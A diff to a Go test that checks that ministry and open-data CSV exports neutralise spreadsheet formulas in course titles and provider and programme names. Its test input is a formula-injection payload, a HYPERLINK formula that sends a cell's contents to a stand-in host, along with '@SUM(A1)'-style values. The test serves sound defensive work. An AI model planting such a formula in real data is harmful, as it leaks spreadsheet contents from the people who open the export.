@@ -36,8 +36,8 @@ func formulaCells(t *testing.T, body string) []string {
 	return bad
 }
 
-// TestCSVExportsNeutraliseFormulas (issue 15, finding 1): an instructor's
-// course titled as a formula, a provider's name and a programme's name
+// TestCSVExportsNeutraliseFormulas (issue 15, finding 1): a course an
+// instructor published with a formula as its title, a provider's name and a programme's name
 // that start with formula characters appear neutralised in every ministry
 // CSV export and in the open data CSV. (The roster's own test covers a
 // display name; the person's data export is covered in internal/learning.)
@@ -46,11 +46,20 @@ func TestCSVExportsNeutraliseFormulas(t *testing.T) {
 	w := newMinistryWorld(t, ta.DB)
 	hostile := `=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"詳細")`
 	g := ta.DB.Gorm
+	// An instructor of a provider publishes the course through the studio's
+	// service, and twelve people enrol.
+	author := ta.createUser(t, testUser{Email: "formula-author@example.jp"})
+	ta.addMember(t, "関西デジタル学院", "provider", author, "instructor", false)
+	c := progressPublish(t, ta.App, author, w.providers[1], "formula-course", hostile, hostile, "robotics")
+	for i := range 12 {
+		if err := g.Exec(`INSERT INTO enrolments (user_id, course_id, status, enrolled_at) VALUES (?, ?, 'active', now())`, w.learners[i], c.id).Error; err != nil {
+			t.Fatal(err)
+		}
+	}
 	for _, q := range []struct {
 		sql  string
 		args []any
 	}{
-		{`UPDATE courses SET title_ja = ?, title_en = ? WHERE id = ?`, []any{hostile, hostile, w.courses["sec-first"]}},
 		{`UPDATE organisations SET name_ja = ?, name_en = ? WHERE id = ?`, []any{"@SUM(A1)", "@SUM(A1)", w.providers[1]}},
 		{`UPDATE programmes SET name_en = ? WHERE code = 'ai-ready'`, []any{"+81 AI"}},
 	} {
